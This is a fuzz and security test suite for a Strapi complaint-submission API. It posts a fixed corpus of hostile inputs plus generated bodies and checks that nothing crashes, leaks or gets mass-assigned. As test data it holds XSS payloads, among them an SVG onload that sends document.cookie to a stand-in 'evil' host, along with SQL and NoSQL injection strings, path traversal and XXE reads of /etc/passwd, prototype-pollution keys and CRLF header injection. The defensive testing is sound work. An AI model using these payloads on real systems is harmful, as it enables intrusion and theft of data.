import fc from 'fast-check';
import { startApp, type TestApp } from '../helpers/app';

/**
 * Hostile input against the public complaint routes: a fixed corpus of known attack
 * shapes (XSS, SQL text, NUL bytes, prototype keys, deep nesting, huge strings, mass
 * assignment of system fields, Strapi query parameters from past advisories) plus
 * fast-check generated bodies. Whatever arrives: no 5xx, exactly one stored row per
 * 201, and no response carries a private field.
 */

const UID = 'api::pengaduan.pengaduan';
const PRIVATE_KEYS = new Set([
  'kodeLacakHash',
  'nama',
  'kontak',
  'isi',
  'id',
  'documentId',
  'createdAt',
  'updatedAt',
  'createdBy',
  'updatedBy',
  'publishedAt',
  'tahap',
  'versi',
  'catatan',
  'tanggapan',
  'password',
  'email',
  'layanan',
  'saluran',
]);

const ISI = 'Pelayanan di loket persandian lambat dan tidak ada kejelasan waktu.';
const VALID = { nama: 'Siti Aminah', kontak: 'siti@contoh.id', isi: ISI };

type Attempt = {
  label: string;
  method?: 'POST' | 'GET';
  path?: string;
  contentType?: string;
  body?: string | Buffer;
};

const json = (label: string, value: unknown, path = '/api/pengaduan'): Attempt => ({ label, path, contentType: 'application/json', body: JSON.stringify(value) });
const rawJson = (label: string, body: string | Buffer, path = '/api/pengaduan'): Attempt => ({ label, path, contentType: 'application/json', body });
const withData = (label: string, data: Record<string, unknown>) => json(label, { data: { ...VALID, ...data } });

const nested = (depth: number, open: string, close: string, inner = '1') => open.repeat(depth) + inner + close.repeat(depth);

const CORPUS: Attempt[] = [
  // accepted, stored as plain text
  withData('valid', {}),
  withData('xss in nama', { nama: '<script>alert(1)</script>' }),
  withData('xss in isi', { isi: `<img src=x onerror=alert(document.cookie)> ${ISI}` }),
  withData('svg xss', { isi: `<svg/onload=fetch('//evil/'+document.cookie)> ${ISI}` }),
  withData('template injection', { isi: `{{constructor.constructor('return process')()}} \${7*7} ${ISI}` }),
  withData('sql in nama', { nama: "Robert'); DROP TABLE pengaduan;--" }),
  withData('sql in isi', { isi: `1' OR '1'='1'; DELETE FROM sop_audit; -- ${ISI}` }),
  withData('sql union', { isi: `' UNION SELECT kode_lacak_hash, nama, kontak FROM pengaduan -- ${ISI}` }),
  withData('rtl override', { nama: 'Siti \u202eanimA' }),
  withData('emoji', { isi: `${ISI} 😡🙏🏽 — ✓` }),
  withData('phone contact', { kontak: '+62 812-3456-7890' }),
  withData('max lengths', { nama: 'N'.repeat(100), isi: 'I'.repeat(5000) }),
  withData('markdown link', { isi: `[klik](javascript:alert(1)) ${ISI}` }),
  withData('crlf in isi', { isi: `${ISI}\r\nX-Injected: 1\r\n` }),
  withData('header injection in kontak', { kontak: 'siti@contoh.id\r\nBcc: semua@contoh.id' }),
  // refused
  withData('nul in nama', { nama: 'Siti\u0000' }),
  withData('nul in isi', { isi: `${ISI}\u0000` }),
  withData('nul in kontak', { kontak: 'siti@contoh.id\u0000.evil' }),
  withData('escape sequence', { isi: `${ISI}\u001b]0;pwned\u0007` }),
  withData('c1 control', { nama: 'Siti\u0085' }),
  withData('lone surrogate', { isi: `${ISI}\ud800` }),
  withData('newline in nama', { nama: 'Siti\nAminah' }),
  withData('too short nama', { nama: 'S' }),
  withData('too long nama', { nama: 'N'.repeat(101) }),
  withData('too short isi', { isi: 'pendek' }),
  withData('too long isi', { isi: 'I'.repeat(5001) }),
  withData('huge isi under body limit', { isi: 'I'.repeat(15_000) }),
  withData('huge isi over body limit', { isi: 'I'.repeat(20_000) }),
  withData('huge key', { ['k'.repeat(10_000)]: 1 }),
  withData('many keys', Object.fromEntries(Array.from({ length: 500 }, (_, i) => [`k${i}`, i]))),
  withData('id', { id: 1 }),
  withData('documentId', { documentId: 'abcdefghijklmnopqrstuvwx' }),
  withData('createdBy', { createdBy: 1 }),
  withData('createdBy connect', { createdBy: { connect: [{ id: 1 }] } }),
  withData('updatedBy', { updatedBy: 1 }),
  withData('status', { status: 'published' }),
  withData('publishedAt', { publishedAt: '2020-01-01T00:00:00.000Z' }),
  withData('locale', { locale: 'en' }),
  withData('tahap', { tahap: 'selesai' }),
  withData('nomorTiket', { nomorTiket: 'ADU-2026-000001' }),
  withData('kodeLacakHash', { kodeLacakHash: 'h1:00' }),
  withData('tanggapan', { tanggapan: 'Selesai.' }),
  withData('saluran', { saluran: 'telepon' }),
  withData('versi', { versi: 99 }),
  withData('tenggat', { tenggat: '2099-01-01T00:00:00.000Z' }),
  withData('waktuDiterima', { waktuDiterima: '2000-01-01T00:00:00.000Z' }),
  withData('nama operator', { nama: { $ne: null } }),
  withData('nama array', { nama: ['Siti', 'Aminah'] }),
  withData('nama number', { nama: 12345 }),
  withData('nama null', { nama: null }),
  withData('kontak object', { kontak: { $regex: '.*' } }),
  withData('isi boolean', { isi: true }),
  withData('layanan traversal', { layanan: '../../etc/passwd' }),
  withData('layanan operator', { layanan: { $ne: '' } }),
  withData('layanan long', { layanan: 'a'.repeat(200) }),
  withData('layanan unknown', { layanan: 'tidak-ada-layanan-ini' }),
  withData('layanan sql', { layanan: "x' OR 'a'='a" }),
  withData('kontak landline', { kontak: '(0285) 421243' }),
  withData('kontak short', { kontak: '0812' }),
  withData('kontak javascript', { kontak: 'javascript:alert(1)' }),
  rawJson('__proto__ in data', `{"data":{"nama":"Siti Aminah","kontak":"siti@contoh.id","isi":"${ISI}","__proto__":{"isAdmin":true}}}`),
  rawJson('__proto__ at top', `{"__proto__":{"polluted":true},"data":{"nama":"Siti Aminah","kontak":"siti@contoh.id","isi":"${ISI}"}}`),
  rawJson('constructor prototype', `{"data":{"nama":"Siti Aminah","kontak":"siti@contoh.id","isi":"${ISI}","constructor":{"prototype":{"polluted":true}}}}`),
  rawJson('prototype key', `{"data":{"prototype":1,"nama":"Siti Aminah","kontak":"siti@contoh.id","isi":"${ISI}"}}`),
  rawJson('__proto__ as data', `{"data":{"__proto__":{"nama":"Siti Aminah","kontak":"siti@contoh.id","isi":"${ISI}"}}}`),
  rawJson('duplicate keys', `{"data":{"nama":"Siti Aminah","nama":"Lain","kontak":"siti@contoh.id","isi":"${ISI}"}}`),
  rawJson('deep arrays', nested(7000, '[', ']')),
  rawJson('deep objects', nested(1500, '{"a":', '}')),
  rawJson('deep nama', `{"data":{"nama":${nested(5000, '[', ']')},"kontak":"siti@contoh.id","isi":"${ISI}"}}`),
  rawJson('deep in data', `{"data":${nested(2000, '{"x":', '}', '{}')}}`),
  rawJson('null', 'null'),
  rawJson('number', '42'),
  rawJson('string', '"data"'),
  rawJson('array', '[]'),
  rawJson('true', 'true'),
  rawJson('empty object', '{}'),
  rawJson('data null', '{"data":null}'),
  rawJson('data array', `{"data":[${JSON.stringify(VALID)}]}`),
  rawJson('empty body', ''),
  rawJson('whitespace', '   \n  '),
  rawJson('truncated', '{"data":{"nama":"Siti'),
  rawJson('trailing garbage', `${JSON.stringify({ data: VALID })} xyz`),
  rawJson('single quotes', "{'data':{}}"),
  rawJson('comment', '/* x */ {"data":{}}'),
  rawJson('NaN', '{"data":{"nama":NaN}}'),
  rawJson('huge number', `{"data":{"nama":1${'0'.repeat(400)}}}`),
  rawJson('bom', `\ufeff${JSON.stringify({ data: VALID })}`),
  rawJson('invalid utf8', Buffer.concat([Buffer.from('{"data":{"nama":"'), Buffer.from([0xc3, 0x28, 0xff]), Buffer.from('"}}')])),
  rawJson('overlong utf8 nul', Buffer.concat([Buffer.from('{"data":{"nama":"Siti'), Buffer.from([0xc0, 0x80]), Buffer.from('","kontak":"siti@contoh.id","isi":"' + ISI + '"}}')])),
  rawJson('escaped nul', `{"data":{"nama":"Siti\\u0000Aminah","kontak":"siti@contoh.id","isi":"${ISI}"}}`),
  json('meta next to data', { data: VALID, meta: { populate: '*' } }),
  json('query inside body', { data: VALID, filters: { createdBy: { password: { $startsWith: 'a' } } } }),
  json('populate in body', { data: VALID, populate: '*' }),
  json('valid but filters query', { data: VALID }, '/api/pengaduan?filters[createdBy][password][$startsWith]=a'),
  json('valid but populate query', { data: VALID }, '/api/pengaduan?populate=*'),
  json('valid but populate deep', { data: VALID }, '/api/pengaduan?populate[createdBy][populate][roles]=true'),
  json('valid but fields query', { data: VALID }, '/api/pengaduan?fields[0]=kodeLacakHash&fields[1]=kontak'),
  json('valid but status query', { data: VALID }, '/api/pengaduan?status=draft&locale=*'),
  json('valid but sort query', { data: VALID }, '/api/pengaduan?sort=kodeLacakHash:asc'),
  json('trailing slash', { data: VALID }, '/api/pengaduan/'),
  json('case variant', { data: { ...VALID, tahap: 'selesai' } }, '/API/PENGADUAN'),
  { label: 'text/plain', path: '/api/pengaduan', contentType: 'text/plain', body: JSON.stringify({ data: VALID }) },
  { label: 'form', path: '/api/pengaduan', contentType: 'application/x-www-form-urlencoded', body: 'data[nama]=Siti&data[kontak]=siti@contoh.id' },
  { label: 'multipart', path: '/api/pengaduan', contentType: 'multipart/form-data; boundary=b', body: '--b\r\nContent-Disposition: form-data; name="data"\r\n\r\n{}\r\n--b--' },
  { label: 'xml', path: '/api/pengaduan', contentType: 'application/xml', body: '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>' },
  { label: 'json charset latin1', path: '/api/pengaduan', contentType: 'application/json; charset=iso-8859-1', body: JSON.stringify({ data: VALID }) },
  { label: 'no content type', path: '/api/pengaduan', body: JSON.stringify({ data: VALID }) },
  { label: 'vnd json', path: '/api/pengaduan', contentType: 'application/vnd.api+json', body: JSON.stringify({ data: VALID }) },
  // the HTML form's own target: no token, so nothing is ever stored from here
  { label: 'form xss', path: '/pengaduan', contentType: 'application/x-www-form-urlencoded', body: `nama=${encodeURIComponent('<script>alert(1)</script>')}&kontak=a%40b.id&isi=${encodeURIComponent(ISI)}` },
  { label: 'form nul', path: '/pengaduan', contentType: 'application/x-www-form-urlencoded', body: 'nama=Siti%00&kontak=x&isi=y&token=a.b' },
  { label: 'form proto', path: '/pengaduan', contentType: 'application/x-www-form-urlencoded', body: '__proto__[x]=1&constructor[prototype][y]=2&nama=Siti' },
  { label: 'form nested', path: '/pengaduan', contentType: 'application/x-www-form-urlencoded', body: 'data[nama]=Siti&nama[]=a&nama[]=b&token=x.y' },
  { label: 'form honeypot', path: '/pengaduan', contentType: 'application/x-www-form-urlencoded', body: `nama=Bot&kontak=bot%40x.id&isi=${encodeURIComponent(ISI)}&situs_web=http%3A%2F%2Fspam` },
  { label: 'form json body', path: '/pengaduan', contentType: 'application/json', body: JSON.stringify({ data: VALID }) },
  // tracking with hostile tickets and codes
  ...[
    '/api/pengaduan/lacak/ADU-2026-000001?kode[$ne]=x',
    '/api/pengaduan/lacak/ADU-2026-000001?kode[]=a&kode[]=b',
    '/api/pengaduan/lacak/ADU-2026-000001?kode=%00',
    '/api/pengaduan/lacak/%00?kode=x',
    '/api/pengaduan/lacak/..%2F..%2Fadmin?kode=x',
    "/api/pengaduan/lacak/ADU-2026-000001'%20OR%201=1--?kode=x",
    '/api/pengaduan/lacak/ADU-2026-000001?kode=0000-0000-0000-0000&populate=*',
    '/api/pengaduan/lacak/ADU-2026-000001?filters[createdBy][password][$startsWith]=a',
    `/api/pengaduan/lacak/${'A'.repeat(5000)}?kode=x`,
    `/api/pengaduan/lacak/ADU-2026-000001?kode=${'Z'.repeat(5000)}`,
    '/pengaduan/lacak?nomor[$ne]=x&kode[$ne]=y',
    '/pengaduan/lacak?nomor=%3Cscript%3Ealert(1)%3C%2Fscript%3E&kode=x',
    '/pengaduan?layanan=%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  ].map((path): Attempt => ({ label: `GET ${path.slice(0, 60)}`, method: 'GET', path })),
];

// ---------------------------------------------------------------------------
// Generated bodies

const KEYS = ['nama', 'kontak', 'isi', 'layanan', 'id', 'documentId', 'createdBy', 'status', 'publishedAt', 'tahap', '__proto__', 'constructor', 'toString', '$where', ''];
const CONTACTS = ['siti@contoh.id', '0812-3456-7890', '+6281234567890', 'x@', '0285421243', '', 'a@b.c', '6281234567890'];

const text = fc.oneof(
  fc.string({ maxLength: 40 }),
  fc.string({ unit: 'grapheme', minLength: 20, maxLength: 200 }),
  fc.string({ unit: 'binary', maxLength: 120 }),
  fc.constantFrom('<script>alert(1)</script>', "' OR 1=1 --", '\u0000', '${7*7}', '../../etc/passwd', 'a'.repeat(6000))
);

const value = fc.oneof({ depthSize: 'small' }, text, fc.jsonValue({ maxDepth: 3 }), fc.constant(null));

const dataArbitrary = fc.oneof(
  // plausible complaints with one field varied
  fc.record({ nama: text, kontak: fc.constantFrom(...CONTACTS), isi: fc.oneof(text, fc.constant(ISI)) }),
  fc.record({ nama: fc.constant('Siti Aminah'), kontak: fc.constantFrom(...CONTACTS), isi: fc.string({ unit: 'grapheme', minLength: 15, maxLength: 400 }) }),
  fc.record(
    { nama: fc.constant('Siti Aminah'), kontak: fc.constant('siti@contoh.id'), isi: fc.constant(ISI), layanan: fc.oneof(fc.string({ maxLength: 30 }), fc.stringMatching(/^[a-z0-9]{1,8}(-[a-z0-9]{1,8}){0,2}$/)) },
    { requiredKeys: ['nama', 'kontak', 'isi'] }
  ),
  // unknown and system keys
  fc.dictionary(fc.constantFrom(...KEYS), value, { maxKeys: 6 }),
  fc.dictionary(fc.string({ maxLength: 20 }), value, { maxKeys: 5 }),
  fc.jsonValue({ maxDepth: 4 })
);

const generated = (count: number): Attempt[] => {
  const bodies = fc.sample(
    fc.oneof(
      { weight: 6, arbitrary: dataArbitrary.map((data) => ({ data })) },
      { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 4 }) },
      { weight: 1, arbitrary: fc.record({ data: dataArbitrary, extra: value }) }
    ),
    { numRuns: count, seed: 20261123 }
  );
  const strings = fc.sample(fc.string({ unit: 'binary', maxLength: 300 }), { numRuns: Math.floor(count / 10), seed: 7 });
  return [
    ...bodies.map((body, index) => json(`generated #${index}`, body)),
    ...strings.map((body, index) => rawJson(`generated raw #${index}`, body)),
  ];
};

const privateKeysIn = (value: unknown, path = ''): string[] => {
  if (Array.isArray(value)) return value.flatMap((item, index) => privateKeysIn(item, `${path}[${index}]`));
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value as Record<string, unknown>).flatMap(([key, inner]) => [
    ...(PRIVATE_KEYS.has(key) ? [`${path}.${key}`] : []),
    ...privateKeysIn(inner, `${path}.${key}`),
  ]);
};

describe('Pengaduan under hostile input', () => {
  let app: TestApp;

  beforeAll(async () => {
    app = await startApp({ env: { PENGADUAN_RATE_LIMIT: '100000', PENGADUAN_LACAK_RATE_LIMIT: '100000' } });
  });
  afterAll(async () => {
    await app?.destroy();
  });

  it('survives at least 500 malformed or hostile requests: no 5xx, one row per 201, no private field out', async () => {
    const attempts = [...CORPUS, ...generated(440)];
    expect(attempts.length).toBeGreaterThanOrEqual(500);
    const before = Number(await app.strapi.db.query(UID).count({}));
    let created = 0;
    const statuses = new Map<number, number>();
    const failures: string[] = [];

    for (const attempt of attempts) {
      const request =
        attempt.method === 'GET' ? app.http().get(attempt.path ?? '/') : app.http().post(attempt.path ?? '/api/pengaduan');
      if (attempt.contentType) request.set('Content-Type', attempt.contentType);
      const response = attempt.method === 'GET' ? await request : await request.send(attempt.body ?? '');
      statuses.set(response.status, (statuses.get(response.status) ?? 0) + 1);
      if (response.status >= 500) failures.push(`${attempt.label}: ${response.status} ${response.text.slice(0, 200)}`);
      if (response.status === 201 && attempt.path?.startsWith('/api/')) {
        created += 1;
        if (JSON.stringify(Object.keys(response.body.data ?? {}).sort()) !== '["kodeLacak","nomorTiket"]') {
          failures.push(`${attempt.label}: 201 with ${response.text}`);
        }
      }
      if ((response.headers['content-type'] ?? '').startsWith('application/json')) {
        const leaked = privateKeysIn(response.body);
        if (leaked.length) failures.push(`${attempt.label}: private keys ${leaked.join(', ')}`);
        expect(response.text).not.toMatch(/h[12]:[0-9a-f]{64}/);
      }
      if (response.text.includes('<script>alert(1)')) failures.push(`${attempt.label}: reflected markup`);
    }

    expect(failures).toEqual([]);
    const after = Number(await app.strapi.db.query(UID).count({}));
    expect(after - before).toBe(created);
    expect(created).toBeGreaterThanOrEqual(10);
    expect(statuses.get(400)).toBeGreaterThan(300);
    expect(statuses.get(413)).toBeGreaterThanOrEqual(1);
    expect(statuses.get(415)).toBeGreaterThanOrEqual(5);

    // whatever was sent, every stored complaint is a fresh public one: no mass assignment
    const stored = (await app.strapi.db.query(UID).findMany({ populate: ['createdBy', 'updatedBy'] })) as Record<string, unknown>[];
    for (const row of stored) {
      expect(row).toMatchObject({ tahap: 'diterima', saluran: 'web', versi: 0, tanggapan: null, createdBy: null, updatedBy: null });
      expect(String(row.nomorTiket)).toMatch(/^ADU-\d{4}-\d{6}$/);
      expect(String(row.kodeLacakHash)).toMatch(/^h2:[0-9a-f]{64}$/);
      expect(String(row.nama)).not.toMatch(/[\u0000-\u001f]/);
    }
    const polluted = ({} as Record<string, unknown>).polluted ?? ({} as Record<string, unknown>).isAdmin;
    expect(polluted).toBeUndefined();
  });
});
